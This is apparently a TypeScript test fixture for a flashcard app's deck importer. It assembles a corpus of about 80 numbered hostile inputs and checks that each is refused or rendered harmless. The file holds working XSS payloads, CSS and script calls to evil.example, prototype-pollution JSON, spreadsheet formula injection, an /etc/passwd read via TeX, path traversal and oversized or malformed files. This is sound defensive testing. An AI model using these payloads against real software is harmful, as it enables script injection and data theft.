import type { Card, CardId, Deck, DeckId } from '$lib/core/deck/card';
import { hashText } from '$lib/core/random';
import type { PackageError } from '$lib/core/sharing/packageErrors';
import { base64urlFromBytes } from '$lib/core/sharing/base64url';
import { guidOf } from '$lib/core/sharing/guids';
import * as codec from '$lib/platform/deflate';
import { changed, damages, refusals, withTemplate } from '../packages/hostile';
import { basicJson, collectionOf, packageOf, zipOf } from '../packages/make';
import { contentOf } from './cards';

/** Bytes that come as a file of that name, or a link's fragment. */
export type Made =
	| { readonly type: 'file'; readonly name: string; readonly content: string | Uint8Array }
	| { readonly type: 'link'; readonly fragment: string };

/** An input that somebody made to do harm, and what becomes of it: refused in words, shown without harm, or one of both. */
export interface Hostile {
	/** Its number in the corpus, 1 to 80. */
	readonly number: number;
	readonly name: string;
	readonly becomes: 'refused' | 'inert' | 'either';
	/** Why it is refused, where that is to be told. */
	readonly problem?: PackageError;
	readonly make: () => Made | Promise<Made>;
}

const idOf = (letter: string) => letter.padStart(11, 'A');

/** What is here before any of it comes, and must be here after. */
export const here: { readonly deck: Deck; readonly cards: readonly Card[] } = {
	deck: {
		title: 'Here',
		author: 'Me',
		licence: '',
		language: 'en',
		source: '',
		version: '1',
		id: idOf('D') as DeckId,
		article: null,
		createdAt: 1,
		importedFrom: null
	},
	cards: ['one', 'two'].map((word, at) => ({
		...contentOf({ prompt: `What is ${word}?`, answer: word, origin: idOf(`o${at}`), fact: idOf(`o${at}`) }),
		id: idOf(`c${at}`) as CardId,
		deck: idOf('D') as DeckId,
		article: null
	}))
};

const file = (content: string | Uint8Array, name = 'hostile.txt'): Made => ({ type: 'file', name, content });
const apkg = (content: Uint8Array): Made => file(content, 'hostile.apkg');

/** A whole link around any text: as a stranger would forge it. */
export async function forge(text: string): Promise<string> {
	const bytes = await codec.deflate(new TextEncoder().encode(text));
	const body = `1d${bytes.ok ? base64urlFromBytes(bytes.value) : ''}`;
	const [word] = hashText(body);
	return `#d=${body}${base64urlFromBytes(new Uint8Array([word >>> 24, word >>> 16, word >>> 8, word]))}`;
}
const link = async (text: string): Promise<Made> => ({ type: 'link', fragment: await forge(text) });

/** A deck as a link holds it, whatever its cards say. */
function columnsOf(
	prompts: readonly string[],
	answers: readonly string[],
	{
		deck = idOf('E'),
		origins = prompts.map(() => '')
	}: { readonly deck?: string; readonly origins?: readonly string[] } = {}
) {
	const [lists, blank] = [prompts.map(() => []), prompts.map(() => '')];
	const [kinds, forms] = ['0'.repeat(prompts.length), 'q'.repeat(prompts.length)];
	const head = ['Here', '', '', 'en', '', '9', '', deck];
	return [head, kinds, forms, prompts, answers, lists, lists, blank, blank, lists, blank, origins, blank];
}

/** HTML that runs, loads or leads away where it is taken for more than words. */
export const markup: readonly (readonly [number: number, html: string])[] = [
	[1, '<script>alert(1)</script>words'],
	[2, '<img src=x onerror=alert(1)>words'],
	[3, '<svg onload=alert(1)>words'],
	[4, '<svg><script>alert(1)</script><foreignObject><body onload=a></foreignObject></svg>words'],
	[5, '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>words'],
	[6, '<iframe srcdoc="<script>parent.a()</script>"></iframe>words'],
	[7, '<a href="javascript:alert(1)">words</a>'],
	[8, '<a href="jav&#x09;ascript:alert(1)">words</a><a href=" JaVaScRiPt:a">words</a>'],
	[9, '<a href="data:text/html,<script>a</script>">words</a>'],
	[10, '<a href="vbscript:a">words</a><a href="file:///etc/passwd">words</a><a href="blob:x">words</a>'],
	[12, '<!-- unclosed words <b>words</b>'],
	[13, '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=a&gt;">words'],
	[14, '<form id=attributes><input name=nodeName></form>words'],
	[15, '<style>@import url(https://evil.example)</style>words'],
	[16, '<style>input[value^=a]{background:url(https://evil.example)}</style>words'],
	[17, '<p style="background:url(https://evil.example)">words</p>'],
	[
		18,
		'<img src=https://evil.example srcset="https://evil.example 2x"><video poster=https://evil.example></video>words'
	],
	[19, '<meta http-equiv=refresh content="0;url=https://evil.example">words<p>'],
	[20, '<base href=https://evil.example>words'],
	[21, '<form action=https://evil.example><input autofocus onfocus=a></form>words'],
	[22, `${'<b>'.repeat(10_000)}words${'</b>'.repeat(10_000)}`]
];

const quoted = (html: string) => `"${html.replaceAll('"', '""')}"`;
const ofMarkup = markup.flatMap(([number, html]): Hostile[] => [
	{
		number,
		name: `markup in a text of Anki: ${html.slice(0, 40)}`,
		becomes: 'inert',
		make: () => file(`#separator:tab\n#html:true\nquestion\t${quoted(html)}\n`)
	},
	{
		number,
		name: 'the same in a deck text, where it is words or too long for any',
		becomes: 'either',
		make: () => file(`# T\n\nQ: ${html}\nA: b\nTags: ${html}\n`, 'hostile.entente.md')
	},
	{
		number,
		name: 'the same in a package, where nothing may be left of it',
		becomes: 'either',
		make: () => apkg(packageOf(collectionOf({ notes: [`question\x1f${html}`, `${html} more\x1fanswer`] })))
	}
]);

/** JSON as a link, where it is no deck, and pasted, where it is lines. */
const json: readonly (readonly [number: number, text: string])[] = [
	[25, '{"__proto__":{"polluted":1}}'],
	[26, '{"constructor":{"prototype":{"polluted":1}}}'],
	[27, '{"a":1,"a":2}'],
	[28, '['.repeat(20_000) + ']'.repeat(20_000)],
	[29, '[[1e999,-0,9007199254740993]]']
];
const ofJson = json.flatMap(([number, text]): Hostile[] => [
	{ number, name: `JSON in a link: ${text.slice(0, 40)}`, becomes: 'refused', make: () => link(text) },
	{ number, name: 'the same as a file', becomes: 'either', make: () => file(text, 'hostile.json') }
]);

const utf16 = (text: string) =>
	new Uint8Array([0xff, 0xfe, ...[...text].flatMap((sign) => [sign.charCodeAt(0), 0])]);
const many = (count: number) => Array.from({ length: count }, (_, at) => `w${at}`).join(' | ');

const ofText: readonly Hostile[] = [
	{
		number: 11,
		name: 'links of Markdown',
		becomes: 'inert',
		make: () =>
			file('[words](javascript:alert(1)) and ![x](https://evil.example/a.png)::answer\n', 'notes.md')
	},
	{
		number: 23,
		name: 'commands of TeX',
		becomes: 'inert',
		make: () => file('\\input{/etc/passwd}::\\verbatiminput{x}\n', 'notes.md')
	},
	{
		number: 24,
		name: 'sounds that call a program',
		becomes: 'inert',
		make: () => file('#separator:tab\n#html:true\na[sound:--script=x]\tb[sound:../../a]\n')
	},
	{
		number: 30,
		name: 'halves of surrogate pairs, which a link can tell',
		becomes: 'inert',
		make: () => link(JSON.stringify(columnsOf(['a\ud800b'], ['c\u0000\udc00'])))
	},
	{ number: 30, name: 'a control sign among words', becomes: 'refused', make: () => file('a\tc\u0001d\n') },
	{ number: 30, name: 'nothing but NUL', becomes: 'refused', make: () => file(new Uint8Array(100_000)) },
	{
		number: 31,
		name: 'bytes that are no UTF-8',
		becomes: 'inert',
		make: () => file(new Uint8Array([0x61, 0xff, 0xc3, 0x28, 0x09, 0xed, 0xa0, 0x80, 0x62, 0x0a]))
	},
	{
		number: 31,
		name: 'UTF-16 behind its mark, with half a pair',
		becomes: 'refused',
		make: () => file(utf16('Who?\tNas\ud800ser\n'))
	},
	{
		number: 31,
		name: 'UTF-16 cut within a sign',
		becomes: 'either',
		make: () => file(utf16('a\tb').slice(0, -1))
	},
	{ number: 32, name: 'one line of 50 MB', becomes: 'refused', make: () => file('x'.repeat(50_000_000)) },
	{
		number: 32,
		name: 'one line of as much as is read',
		becomes: 'inert',
		make: () => file('x'.repeat(9_999_999))
	},
	{
		number: 33,
		name: 'ten million empty rows',
		becomes: 'refused',
		make: () => file('\n'.repeat(9_999_999))
	},
	{
		number: 34,
		name: 'a quotation mark in row 2 that nothing closes',
		becomes: 'inert',
		make: () => file(`Question,Answer\nWho?,"Nasser\n${'When?,1956\n'.repeat(50_000)}`, 'hostile.csv')
	},
	{
		number: 35,
		name: 'cells that a spreadsheet would compute',
		becomes: 'inert',
		make: () =>
			file('first,"=HYPERLINK(""http://x"")"\nsecond,@SUM(A1)\nthird,+cmd|x\nfourth,"\t=1"\n', 'h.csv')
	},
	{
		number: 36,
		name: '10,000 columns',
		becomes: 'inert',
		make: () => file(`${'a,'.repeat(10_000)}\n${'b,'.repeat(10_000)}\n`, 'hostile.csv')
	},
	{
		number: 37,
		name: 'lines of a header that fight each other',
		becomes: 'inert',
		make: () =>
			file(
				'#separator:tab\n#separator:,\n#separator:"\n#deck column:999999999\n#deck column:-1\n#guid column:1\n#tags column:1\n#html:perhaps\n#columns:\nWho?,Nasser\n'
			)
	},
	{
		number: 37,
		name: 'a header without an end',
		becomes: 'either',
		make: () => file('#separator:tab\n'.repeat(600_000))
	},
	{
		number: 38,
		name: 'a deck text under the name of a deck that is here',
		becomes: 'inert',
		make: () =>
			file(
				`# Here\nDeck: ${here.deck.id}\n\nQ: What is one?\nA: overwritten\nOrigin: ${idOf('o0')}\n`,
				'h.md'
			)
	},
	{
		number: 38,
		name: 'a table whose keys are those of cards that are here',
		becomes: 'inert',
		make: () =>
			file(
				`#separator:tab\n#guid column:1\n#deck column:2\n${here.cards.map((card) => `${guidOf(card)}\tHere\t${card.prompt}\toverwritten\n`).join('')}`
			)
	},
	{
		number: 38,
		name: 'a link under the name of a deck that is here',
		becomes: 'inert',
		make: () => {
			const prompts = here.cards.map(({ prompt }) => prompt);
			const origins = here.cards.map(({ origin }) => origin);
			const answers = here.cards.map(() => 'overwritten');
			return link(JSON.stringify(columnsOf(prompts, answers, { deck: here.deck.id, origins })));
		}
	},
	{
		number: 38,
		name: 'a package that says it was made of a deck that is here',
		becomes: 'inert',
		make: () =>
			apkg(
				packageOf(
					collectionOf({
						conf: JSON.stringify({ entente: here.deck.id }),
						decks: JSON.stringify({ 7: { id: 7, name: 'Here', desc: `# Here<br>Deck: ${here.deck.id}` } }),
						notes: here.cards.map(({ prompt }) => `${prompt}\x1foverwritten`),
						change: (database) =>
							void database.exec(`UPDATE notes SET guid = '${here.cards[0]?.id}' WHERE id = 1`)
					})
				)
			)
	},
	{
		number: 41,
		name: 'a million tags',
		becomes: 'inert',
		make: () => file(`#separator:tab\n#tags column:3\na\tb\t${'t '.repeat(1_000_000)}\n`)
	},
	{
		number: 42,
		name: '10,000 wrong options',
		becomes: 'inert',
		make: () => file(`Question,Answer,Wrong options\na,b,${many(10_000)}\n`, 'hostile.csv')
	},
	{
		number: 42,
		name: 'no right option, and the right one among the wrong',
		becomes: 'either',
		make: () => file('# T\n\nQ: a\nA: b\nWrong: b | b | c\n\nQ: c\nA:\nWrong: d\n', 'hostile.md')
	},
	...(
		[
			[43, 'cod\u202Egpka'],
			[44, '\u2067\u2066unbalanced'],
			[45, `a${'\u0301\u0302'.repeat(500)}`],
			[46, 'https://аpple.example/'],
			[47, 'He\u200Bre'],
			[48, 'a\u2028b\u2029c'],
			[49, '👩\u200D'.repeat(1_300)]
		] as const
	).map(([number, words]): Hostile => ({
		number,
		name: `what nobody sees, or sees for something else: ${JSON.stringify(words.slice(0, 12))}`,
		becomes: number === 48 ? 'refused' : 'inert',
		make: () =>
			file(`# ${words.slice(0, 100)}\nSource: ${words.slice(0, 100)}\n\nQ: ${words}\nA: ${words} b\n`, 'h.md')
	}))
];

const wildTimes = [8_640_000_000_000_001, 9_007_199_254_740_991, -62_198_755_200_000, -1];
const wildStates = [
	'{"s":1e308,"d":99,"lrt":-1}',
	'{"s":0,"d":5}',
	'{"s":-1,"d":5}',
	'{"s":"x","d":null}',
	'{'
];

const ofPackages: readonly Hostile[] = [
	...wildTimes.map((at): Hostile => ({
		number: 39,
		name: `an answer given in the year of ${at} ms`,
		becomes: 'inert',
		make: () =>
			apkg(
				changed(`INSERT INTO revlog VALUES (${at},1,0,3,1,1,0,1,1); UPDATE cards SET type = 2, due = ${at}`)
			)
	})),
	...wildStates.map((data): Hostile => ({
		number: 40,
		name: `a memory that cannot be: ${data}`,
		becomes: 'inert',
		make: () => apkg(changed(`UPDATE cards SET type = 2, queue = 2, due = 5, ivl = -5, data = '${data}'`))
	})),
	...refusals.flatMap(([name, bytes, problem]): Hostile[] => {
		const number = Number(/^\d+/.exec(name)?.[0] ?? 0);
		return number === 0
			? []
			: [{ number, name: name.slice(3), becomes: 'refused', problem, make: () => apkg(bytes()) }];
	}),
	...damages.map(([name, bytes]): Hostile => ({
		number: 65,
		name: name.slice(3),
		becomes: 'either',
		make: () => apkg(bytes())
	})),
	{
		number: 61,
		name: 'both older names without a word on the version',
		becomes: 'inert',
		make: () =>
			apkg(
				zipOf([
					{ name: 'collection.anki2', content: collectionOf({ notes: ['Please update\x1fAnki'] }) },
					{ name: 'collection.anki21', content: collectionOf({ notes: ['New?\x1fyes'] }) }
				])
			)
	},
	...[62, 63].map((number): Hostile => ({
		number,
		name: 'a list of media that lies, and media that run',
		becomes: 'inert',
		make: () =>
			apkg(
				zipOf([
					{ name: 'collection.anki21', content: collectionOf() },
					{
						name: 'media',
						content: new TextEncoder().encode('{"__proto__":"../../x.png","no":"1","9":"x"}')
					},
					{ name: '0', content: new TextEncoder().encode('<svg onload=alert(1)>') }
				])
			)
	})),
	{
		number: 70,
		name: 'scripts in templates',
		becomes: 'inert',
		make: () =>
			apkg(withTemplate('{{Front}}<script>fetch("https://x.example")</script><img src=x onerror=a>'))
	},
	{
		number: 70,
		name: 'sections without end in templates',
		becomes: 'inert',
		make: () => apkg(withTemplate(`${'{{#Front}}'.repeat(100_000)}{{Front}}`))
	},
	{
		number: 70,
		name: 'a field called __proto__',
		becomes: 'inert',
		make: () => {
			const flds = ['__proto__', 'constructor'].map((name, ord) => ({ name, ord }));
			const tmpls = [{ ord: 0, qfmt: '{{__proto__}}', afmt: '{{constructor}}' }];
			return apkg(
				packageOf(collectionOf({ models: JSON.stringify({ 5: { ...basicJson[5], flds, tmpls } }) }))
			);
		}
	}
];

const ofLinks: readonly Hostile[] = [
	{
		number: 71,
		name: 'a link that unfolds to 3 MB',
		becomes: 'refused',
		make: () => link(' '.repeat(3_000_000))
	},
	{
		number: 72,
		name: 'a link that is no base64url',
		becomes: 'refused',
		make: () => ({ type: 'link', fragment: '#d=1d%%%%%%%%' })
	},
	{
		number: 72,
		name: 'a link with something behind it',
		becomes: 'refused',
		make: async () => ({ type: 'link', fragment: `${await forge('[]')}AAAA` })
	},
	{
		number: 72,
		name: 'a link of a version that is yet to come',
		becomes: 'refused',
		make: () => {
			const [word] = hashText('9zAAAA');
			const sum = base64urlFromBytes(new Uint8Array([word >>> 24, word >>> 16, word >>> 8, word]));
			return { type: 'link', fragment: `#d=9zAAAA${sum}` };
		}
	},
	{
		number: 73,
		name: 'a link of 2 MB',
		becomes: 'refused',
		make: () => ({ type: 'link', fragment: `#d=1d${'A'.repeat(2_000_000)}` })
	}
];

/** All of it that comes as a file or as a link. */
export const corpus: readonly Hostile[] = [...ofMarkup, ...ofJson, ...ofText, ...ofPackages, ...ofLinks].sort(
	(one, other) => one.number - other.number
);

/** What of the corpus comes another way, and which test has it come so. */
export const elsewhere: Readonly<Record<number, string>> = {
	74: 'tests/e2e/framed.spec.ts',
	75: 'tests/state/openDesk.svelte.test.ts',
	76: 'tests/e2e/arrivals.spec.ts',
	77: 'tests/state/scanDesk.svelte.test.ts',
	78: 'tests/storage/indexeddb.test.ts',
	79: 'tests/core/sharing/backup.test.ts'
};

/** What of the corpus has nothing here that it could do harm to, and why. */
export const absent: Readonly<Record<number, string>> = {
	80: 'nothing is ever fetched from a server that syncs: there is none'
};
